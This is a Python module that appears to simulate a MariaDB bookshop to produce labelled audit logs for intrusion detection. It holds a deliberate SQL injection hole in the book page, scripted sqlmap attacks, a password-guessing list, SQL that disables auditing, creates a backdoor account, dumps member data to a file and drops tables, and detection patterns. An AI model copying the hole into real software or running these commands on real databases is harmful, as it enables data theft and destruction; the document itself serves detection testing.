"""shop-maria: a bookshop on MariaDB. Its log is the server_audit plugin's, with table events, cut at 1024 bytes a query."""

import pymysql

from . import intrusion
from .rhythm import HOUR, OFFICE, SHOPPERS, arrivals, at, every, nightly, workdays
from .simulation import epoch
from .web import App, Pool, visits

NAME, FILE, FORMAT, DATABASE = "shop-maria", "shop-maria.log", "server_audit", "bookshop"

WEB = ["127.0.13.11", "127.0.13.12"]
JOBS, REPORTS, BACKUP, DBA, ANALYST = "127.0.13.31", "127.0.20.5", "127.0.20.9", "127.0.30.8", "127.0.30.17"

SCHEMA = """
CREATE TABLE authors (id INT AUTO_INCREMENT PRIMARY KEY, name VARCHAR(80) NOT NULL);
CREATE TABLE books (id INT AUTO_INCREMENT PRIMARY KEY, author_id INT NOT NULL, title VARCHAR(120) NOT NULL, isbn CHAR(13), price DECIMAL(8,2), stock INT, KEY (author_id));
CREATE TABLE members (id INT AUTO_INCREMENT PRIMARY KEY, email VARCHAR(120) UNIQUE, name VARCHAR(80), pass CHAR(40), phone VARCHAR(30), joined DATETIME DEFAULT now());
CREATE TABLE sales (id BIGINT AUTO_INCREMENT PRIMARY KEY, member_id INT, total DECIMAL(10,2), placed DATETIME DEFAULT now(), state VARCHAR(12));
CREATE TABLE sale_lines (sale_id BIGINT, book_id INT, n INT, price DECIMAL(8,2), PRIMARY KEY (sale_id, book_id));
CREATE TABLE comments (id INT AUTO_INCREMENT PRIMARY KEY, book_id INT, author VARCHAR(80), body TEXT, at DATETIME DEFAULT now(), KEY (book_id));
CREATE TABLE sessions (sid CHAR(32) PRIMARY KEY, member_id INT NULL, data TEXT, seen DATETIME);
CREATE TABLE options (name VARCHAR(64) PRIMARY KEY, value TEXT);
CREATE TABLE mail_queue (id BIGINT AUTO_INCREMENT PRIMARY KEY, rcpt VARCHAR(120), subject VARCHAR(200), sent TINYINT DEFAULT 0);
CREATE TABLE sales_archive LIKE sales;
INSERT INTO authors (name) SELECT CONCAT('Author ', seq) FROM seq_1_to_60;
INSERT INTO books (author_id, title, isbn, price, stock) SELECT 1 + seq % 60, CONCAT('Book number ', seq), LPAD(seq, 13, '978'), 5 + seq % 40, 100000 FROM seq_1_to_350;
INSERT INTO members (email, name, pass, phone) SELECT CONCAT('reader', seq, '@example.com'), CONCAT('Reader ', seq), SHA1(seq), CONCAT('+49 40 ', seq) FROM seq_1_to_400;
INSERT INTO sales (member_id, total, state, placed) SELECT 1 + seq % 400, 20, 'paid', '2026-09-20 12:00:00' FROM seq_1_to_1200;
INSERT INTO sales_archive SELECT * FROM sales;
INSERT INTO sale_lines SELECT seq, 1 + seq % 350, 1, 20 FROM seq_1_to_1200;
INSERT INTO options VALUES ('site_name', 'Books & more'), ('per_page', '12'), ('theme', 'plain');
"""

ACCOUNTS = """
CREATE USER shop_web@'%' IDENTIFIED BY 'correct-horse-shop_web';
GRANT SELECT, INSERT, UPDATE, DELETE ON bookshop.* TO shop_web@'%';
GRANT FILE ON *.* TO shop_web@'%';
CREATE USER shop_jobs@'%' IDENTIFIED BY 'correct-horse-shop_jobs';
GRANT SELECT, INSERT, UPDATE, DELETE, DROP ON bookshop.* TO shop_jobs@'%';
CREATE USER reporting@'%' IDENTIFIED BY 'correct-horse-reporting';
GRANT SELECT, CREATE TEMPORARY TABLES ON bookshop.* TO reporting@'%';
CREATE USER backup@'%' IDENTIFIED BY 'correct-horse-backup';
GRANT SELECT, LOCK TABLES, SHOW VIEW, TRIGGER, EVENT, RELOAD, BINLOG MONITOR ON *.* TO backup@'%';
CREATE USER dba_paul@'%' IDENTIFIED BY 'correct-horse-dba_paul';
GRANT ALL PRIVILEGES ON *.* TO dba_paul@'%' WITH GRANT OPTION;
CREATE USER analyst_tom@'%' IDENTIFIED BY 'correct-horse-analyst_tom';
GRANT SELECT ON bookshop.books TO analyst_tom@'%';
GRANT SELECT ON bookshop.authors TO analyst_tom@'%';
GRANT SELECT ON bookshop.sales TO analyst_tom@'%';
GRANT SELECT ON bookshop.sale_lines TO analyst_tom@'%';
"""

SEARCHES = ["cooking", "O'Brien", "sea & sky", "union square", "select poems", "100%", "drop shot tennis", "learn SQL -- fast", "history", "1 or 2",
            "l'été", "\"quoted\"", "war", "garden", "where the wild things are"]
COMMENTS = ["Lovely!", "Didn't like it; too long.", "Couldn't put it down -- read it twice", "C:\\temp is mentioned on page 4", "10/10",
            "What a \"plot\"\nand what an ending", "für Kinder geeignet"]


def _each(cursor, script):
    for statement in script.split(";\n"):
        if statement.strip():
            cursor.execute(statement)


def load(db):
    with db.admin() as admin, admin.cursor() as c:
        c.execute(f"CREATE DATABASE {db.database} CHARACTER SET utf8mb4")
    with db.admin(db.database) as admin, admin.cursor() as c:
        _each(c, SCHEMA)
        _each(c, ACCOUNTS)


def _rows(c, statement, args=None):
    with c.cursor() as cursor:
        cursor.execute(statement, args)
        return cursor.fetchall()


def _home(c, p):
    _rows(c, "SELECT value FROM options WHERE name = 'per_page'")
    rows = _rows(c, "SELECT b.id, b.title, a.name, b.price\nFROM books b JOIN authors a ON a.id = b.author_id\nWHERE b.stock > 0\nORDER BY b.id DESC\nLIMIT 12")
    _rows(c, "INSERT INTO sessions (sid, data, seen) VALUES (%s, '', now()) ON DUPLICATE KEY UPDATE seen = now()", (p["sid"],))
    return f"{len(rows)} new books"


def _book(c, p):
    # The hole.
    rows = _rows(c, "SELECT b.id, b.title, b.isbn, b.price FROM books b WHERE b.id = " + p["id"])
    text = "<br>".join(f"{r[1]} {r[2]} {r[3]}" for r in rows) or "no such book"
    if rows and rows[0][0]:
        notes = _rows(c, "SELECT author, body FROM comments WHERE book_id = %s ORDER BY at DESC LIMIT 5", (rows[0][0],))
        text += f"; {len(notes)} comments"
    return text


def _search(c, p):
    return f"{len(_rows(c, 'SELECT id, title FROM books WHERE title LIKE %s ORDER BY title LIMIT 12', ('%' + p['q'] + '%',)))} found"


def _author(c, p):
    return f"{len(_rows(c, 'SELECT b.id, b.title FROM books b WHERE b.author_id = %s', (int(p['id']),)))} books"


def _login(c, p):
    rows = _rows(c, "SELECT id, name FROM members WHERE email = %s AND pass = sha1(%s)", (p["email"], p["word"]))
    if rows:
        _rows(c, "UPDATE sessions SET member_id = %s WHERE sid = %s", (rows[0][0], p["sid"]))
    return "hello" if rows else "wrong"


def _buy(c, p):
    books = [int(b) for b in p["books"].split(",")]
    c.begin()
    prices = _rows(c, f"SELECT id, price FROM books WHERE id IN ({', '.join(['%s'] * len(books))}) FOR UPDATE", books)
    with c.cursor() as cursor:
        cursor.execute("INSERT INTO sales (member_id, total, state) VALUES (%s, %s, 'new')", (int(p["member"]), sum(x for _, x in prices)))
        sale = cursor.lastrowid
    _rows(c, "INSERT INTO sale_lines (sale_id, book_id, n, price) VALUES " + ", ".join(["(%s, %s, 1, %s)"] * len(prices)),
          [v for b, x in prices for v in (sale, b, x)])
    _rows(c, f"UPDATE books SET stock = stock - 1 WHERE id IN ({', '.join(['%s'] * len(books))})", books)
    _rows(c, "INSERT INTO mail_queue (rcpt, subject) VALUES (%s, %s)", (f"reader{p['member']}@example.com", f"Your order {sale}"))
    c.commit()
    return f"order {sale}"


def _comment(c, p):
    _rows(c, "INSERT INTO comments (book_id, author, body) VALUES (%s, %s, %s)", (int(p["id"]), p["author"], p["text"]))
    return "thanks"


PAGES = {"/": _home, "/book": _book, "/search": _search, "/author": _author, "/login": _login, "/buy": _buy, "/comment": _comment}


def _visitor(sim, app):
    r = sim.random
    member, sid = r.randint(1, 400), f"{r.getrandbits(128):032x}"
    app.get("/", sid=sid)
    for _ in range(r.randint(1, 4)):
        yield r.uniform(5, 60)
        what = r.random()
        if what < 0.45:
            app.get("/search", q=r.choice(SEARCHES))
        elif what < 0.65:
            app.get("/author", id=r.randint(1, 60))
        yield r.uniform(3, 30)
        app.get("/book", id=r.randint(1, 350))
    if r.random() < 0.3:
        yield r.uniform(5, 40)
        app.get("/login", email=f"reader{member}@example.com", word=str(member), sid=sid)
        if r.random() < 0.6:
            yield r.uniform(5, 60)
            app.get("/buy", member=member, books=",".join(str(b) for b in r.sample(range(1, 351), r.randint(1, 4))))
    if r.random() < 0.05:
        app.get("/comment", id=r.randint(1, 350), author=f"Reader {member}", text=r.choice(COMMENTS))


REPORT = """CREATE TEMPORARY TABLE day AS
  SELECT date(placed) AS d, count(*) AS n, sum(total) AS turnover
    FROM sales
   GROUP BY 1;
SELECT d, n, turnover FROM day ORDER BY d DESC LIMIT 31;
SELECT a.name, sum(l.n) AS sold
  FROM sale_lines l
  JOIN books b ON b.id = l.book_id
  JOIN authors a ON a.id = b.author_id
 GROUP BY a.name
 ORDER BY sold DESC
 LIMIT 20;
DROP TEMPORARY TABLE day;
"""

LOOKS = ["SHOW TABLES;", "SHOW CREATE TABLE sales;", "SHOW PROCESSLIST;", "SHOW GLOBAL STATUS LIKE 'Threads%';", "DESCRIBE books;",
         "SELECT count(*) FROM sales;", "EXPLAIN SELECT * FROM sales WHERE member_id = 4;", "SHOW TABLE STATUS;"]

CHANGES = {
    0: "CREATE INDEX sales_member ON sales (member_id);\nANALYZE TABLE sales;",
    1: "ALTER TABLE books ADD COLUMN language CHAR(2) NULL;\nCREATE TABLE publishers (id INT PRIMARY KEY, name VARCHAR(80));\nGRANT SELECT ON bookshop.publishers TO analyst_tom@'%';",
    2: "CREATE INDEX sessions_seen ON sessions (seen);",
    3: "CREATE INDEX sales_placed ON sales (placed);\nANALYZE TABLE sales;",
    4: "ALTER TABLE books ADD COLUMN publisher_id INT NULL;",
}

QUESTIONS = ["SELECT state, count(*) FROM sales GROUP BY state", "SELECT avg(price), max(price) FROM books",
             "SELECT date(placed), sum(total) FROM sales WHERE placed > now() - INTERVAL {n} DAY GROUP BY 1",
             "SELECT b.title, count(*) FROM sale_lines l JOIN books b ON b.id = l.book_id GROUP BY b.title ORDER BY 2 DESC LIMIT {n}",
             "SELECT a.name, count(*) FROM books b JOIN authors a ON a.id = b.author_id GROUP BY a.name HAVING count(*) > {n}"]


def _administrator(sim, db):
    for day, midnight in enumerate(workdays(sim)):
        for i, t in enumerate(sorted(midnight + h * HOUR + sim.random.uniform(0, 0.6 * HOUR) for h in (8.4, 11.1, 15))):
            if t < sim.start:
                continue
            yield t
            script = "\n".join(sim.random.sample(LOOKS, k=sim.random.randint(2, 4)))
            if i == 1 and day in CHANGES:
                script += "\n" + CHANGES[day]
            db.mysql("dba_paul", DBA, script + "\n")


def _analyst(sim, db):
    def ask():
        if sim.random.random() < 0.06:
            db.mysql("analyst_tom", ANALYST, "", check=False, password="correct-horse-analyst-tom")
        with db.connect("analyst_tom", ANALYST) as c:
            for question in sim.random.sample(QUESTIONS, k=sim.random.randint(1, 3)):
                _rows(c, question.format(n=sim.random.randint(2, 20)))
    return at(sim, arrivals(sim, OFFICE, 1.3, 0), ask)


def _jobs(sim, db):
    """Every ten minutes: mail sent, old sessions removed."""
    def run():
        with db.connect("shop_jobs", JOBS) as c:
            for (id,) in _rows(c, "SELECT id FROM mail_queue WHERE sent = 0 ORDER BY id LIMIT 20"):
                _rows(c, "UPDATE mail_queue SET sent = 1 WHERE id = %s", (id,))
            _rows(c, "DELETE FROM sessions WHERE seen < now() - INTERVAL 1 DAY")
    return at(sim, every(sim, 1200, 5), run)


def actors(sim, db, truth):
    app = App(Pool(sim, lambda address: db.connect("shop_web", address), WEB, 2), PAGES, pymysql.Error)
    dump = ["mariadb-dump", "--single-transaction", "--quick", "--no-tablespaces", "--routines", db.database]
    sim.add(visits(sim, arrivals(sim, SHOPPERS, 24, 0.9), lambda: _visitor(sim, app)))
    sim.add(_jobs(sim, db))
    sim.add(at(sim, nightly(sim, 1, 15), lambda: db.mysql("reporting", REPORTS, REPORT)))
    sim.add(at(sim, nightly(sim, 3, 5), lambda: db.client(dump, "backup", BACKUP)))
    sim.add(_administrator(sim, db))
    sim.add(_analyst(sim, db))
    sim.add(_injection(sim, db, app, truth))
    sim.add(_thief(sim, db, truth))


def _injection(sim, db, app, truth):
    target = app.url + "/book?id=23"
    web = {"role": "shop_web", "client": " ".join(WEB), "database": db.database}
    runs = [
        ("2026-10-14 08:44", "shop-sqlmap-error-union", "sqlmap finds the hole and reads names: error-based and UNION",
         ["--technique=EU", "--banner", "--current-user", "--tables", "-D", db.database],
         ["error_extraction", "union_null_padding", "union_catalog"], [r"UNION ALL SELECT NULL", r"EXTRACTVALUE|UPDATEXML|FLOOR\(RAND|GTID_SUBSET|INFORMATION_SCHEMA"]),
        ("2026-10-14 09:05", "shop-sqlmap-blind-tampered", "sqlmap boolean-based blind, tampered: random case, comments for blanks, BETWEEN for >",
         ["--technique=B", "--tamper=randomcase,space2comment,between", "--current-db", "--is-dba"],
         ["boolean_probe", "comment_obfuscation"], [r"/\*\*/AND/\*\*/\d+=\d+", r"/\*\*/NOT/\*\*/BETWEEN/\*\*/"]),
        ("2026-10-14 09:27", "shop-sqlmap-time", "sqlmap time-based blind and stacked statements",
         ["--technique=TS", "--time-sec=1", "--hostname"], ["time_delay", "stacked_statements"], [r"SLEEP\("]),
        ("2026-10-14 09:50", "shop-sqlmap-versioned", "sqlmap UNION hidden in MySQL's versioned comments: the members are dumped",
         ["--technique=U", "--union-cols=4", "--tamper=versionedmorekeywords", "-D", db.database, "-T", "members", "-C", "email,pass", "--dump"],
         ["comment_obfuscation", "union_null_padding"], [r"/\*!UNION\*/", r"bookshop\.members"]),
        ("2026-10-14 10:15", "shop-sqlmap-file", "sqlmap reads a file of the server's through the hole",
         ["--technique=U", "--union-cols=4", "--file-read=/etc/hostname"], ["file_read"], [r"LOAD_FILE\("]),
    ]
    for when, id, what, options, expect, contains in runs:
        yield epoch(when)
        with truth.attack(id, what, "T1190", expect=expect, contains=contains, **web):
            yield from intrusion.sqlmap(sim, db.folder, target, ["--dbms=MySQL", *options])


GUESSES = ["root", "admin", "123456", "password", "paul", "paul1", "paul2026", "mysql", "mariadb", "secret", "changeme", "letmein", "qwerty", "dba",
           "dba_paul", "Paul!", "P@ul2026", "books", "bookshop", "welcome", "correct-horse-battery", "correct-horse-dba_paul"]


def _thief(sim, db, truth):
    host = "127.0.66.7"
    yield epoch("2026-10-14 19:31")
    with truth.attack("shop-brute-force", "22 passwords are tried on the administrator's account; the last one is right", "T1110.001", role="dba_paul",
                      client=host, database="", expect=["login_failures", "login_after_failures", "new_client"],
                      contains=[r",dba_paul,127\.0\.66\.7,\d+,0,FAILED_CONNECT", r",dba_paul,127\.0\.66\.7,\d+,0,CONNECT"]):
        for guess in GUESSES:
            db.mysql("dba_paul", host, "", check=False, password=guess)
            yield sim.now() + sim.random.uniform(0.5, 2)
    yield epoch("2026-10-14 19:38")
    with truth.attack("shop-stolen-backup-audit-off", "the backup account is used by hand: auditing off and a new account, both refused", "T1562.001",
                      role="backup", client=host, database=db.database, expect=["audit_disable", "permission_denied", "new_client"], outcome="failure",
                      contains=[r"backup,127\.0\.66\.7.*set global server_audit_logging\s*=\s*off", r"GRANT ALL PRIVILEGES ON \*\.\* TO backup"]):
        db.mysql("backup", host, "select user();\nset global server_audit_logging = off;\nset global general_log = off;\n"
                 "GRANT ALL PRIVILEGES ON *.* TO backup@'%';\nCREATE USER ghost@'%' IDENTIFIED BY 'boo';\n", check=False)
    yield epoch("2026-10-14 19:44")
    who = {"role": "dba_paul", "client": host, "database": db.database}
    with truth.attack("shop-backdoor-account", "as the administrator: an account with all rights", "T1136", **who,
                      expect=["role_create", "role_password", "grant_all", "grant_with_option"],
                      contains=[r"CREATE USER sys_maint", r"GRANT ALL PRIVILEGES ON \*\.\* TO sys_maint"]):
        db.mysql("dba_paul", host, "SELECT user, host, authentication_string FROM mysql.user;\nCREATE USER sys_maint@'%' IDENTIFIED BY 'n0b0dy';\n"
                 "GRANT ALL PRIVILEGES ON *.* TO sys_maint@'%' WITH GRANT OPTION;\n")
    yield epoch("2026-10-14 19:52")
    with truth.attack("shop-bulk-read", "the new account reads whole tables and writes one to a file", "T1213", role="sys_maint", client=host,
                      database=db.database, expect=["new_role", "whole_table_read", "file_write", "dump_tool_shape"],
                      contains=[r"sys_maint.*SELECT \* FROM members INTO OUTFILE", r"SELECT /\*!40001 SQL_NO_CACHE \*/ .{0,200}FROM `sales`"]):
        db.mysql("sys_maint", host, f"SELECT * FROM members INTO OUTFILE '{db.folder}/data/loot.txt';\nSELECT * FROM mysql.global_priv;\n", password="n0b0dy")
        db.client(["mariadb-dump", "--no-tablespaces", "--skip-lock-tables", db.database, "members", "sales"], "sys_maint", host, password="n0b0dy")
    yield epoch("2026-10-14 20:10")
    with truth.attack("shop-destruction", "tables are dropped, emptied and overwritten", "T1485", role="sys_maint", client=host, database=db.database,
                      expect=["schema_drop", "truncate", "missing_where"],
                      contains=[r"DROP TABLE sales_archive", r"TRUNCATE TABLE comments", r"UPDATE members SET pass = \\'\\'"]):
        db.mysql("sys_maint", host, "DROP TABLE sales_archive;\nTRUNCATE TABLE comments;\nUPDATE members SET pass = '';\nDELETE FROM mail_queue;\n",
                 password="n0b0dy")
    yield epoch("2026-10-14 20:16")
    with truth.attack("shop-audit-exclude", "auditing is switched off for one account", "T1562.001", role="sys_maint", client=host,
                      database=db.database, expect=["audit_disable"], contains=[r"server_audit_excl_users"]):
        db.mysql("sys_maint", host, "SET GLOBAL server_audit_excl_users = 'sys_maint';\n", password="n0b0dy")
    yield epoch("2026-10-14 20:18")
    with truth.attack("shop-audit-off", "auditing is switched off altogether: the log stops for 19 minutes", "T1562.001", **who,
                      expect=["audit_disable"], contains=[r"SET GLOBAL server_audit_logging = OFF"]):
        db.mysql("dba_paul", host, "SET GLOBAL server_audit_logging = OFF;\n")
    yield epoch("2026-10-14 20:37")
    with truth.response("the administrator, called by somebody who missed the log, switches it on again", role="dba_paul", client=DBA):
        db.mysql("dba_paul", DBA, "SET GLOBAL server_audit_excl_users = '';\nSET GLOBAL server_audit_logging = ON;\nDROP USER sys_maint@'%';\n")
